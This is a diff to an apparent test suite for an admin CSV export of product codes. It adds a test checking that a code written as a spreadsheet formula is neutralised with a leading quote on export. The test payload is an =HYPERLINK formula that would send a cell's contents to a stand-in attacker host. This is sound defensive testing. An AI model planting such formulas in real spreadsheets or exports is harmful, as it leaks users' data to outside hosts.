@@ -160,6 +160,26 @@ describe('POST /api/admin/codes/export', () => {
     expect(withSold.body.rejected[1]).toEqual({ line: 3, reason: 'malformed', message: 'Only available codes load; this one is used' });
   });
 
+  it('writes a code a spreadsheet would run as a formula as quoted text behind a quote; the code is stored as typed and the file loads back', async () => {
+    const product = await app.fixtures.product({ has_global_codes: true });
+    const formula = `=HYPERLINK("http://evil.example/?"&A1)-${newCode()}`;
+    const imported = await app.asAdmin('POST', `${BASE}/import`, {
+      codes: ['product_id,code,price_usd,price_rub,game_amount', `${product.id},"${formula.replaceAll('"', '""')}",1,79,5`].join('\n'),
+    });
+    expect(imported.body).toMatchObject({ added: 1, rejectedCount: 0 });
+    const stored = await app.db('codes').where({ product_id: product.id }).first('code_encrypted');
+    expect(crypto.decrypt(stored.code_encrypted)).toBe(formula);
+
+    const exported = await exportCodes({ productId: product.id }, { reason: 'Stock check' });
+    expect(exported.status).toBe(200);
+    const [, line] = exported.body.split('\n');
+    expect(line).toContain(`,"'${formula.replaceAll('"', '""')}",`);
+    expect(line.split(',').some((cell: string) => /^"?[=+\-@\t\r]/.test(cell))).toBe(false);
+
+    const reloaded = await app.asAdmin('POST', `${BASE}/import`, { codes: exported.body });
+    expect(reloaded.body).toEqual({ added: 0, rejectedCount: 1, rejected: [{ line: 2, reason: 'duplicate', message: 'This code is already stored' }] });
+  });
+
   it('refuses an export without a reason or with a bad filter (400), auditing nothing', async () => {
     const before = await app.db('audit_log').where({ action: 'code.export' }).count({ n: '*' });
     for (const [filter, body] of [
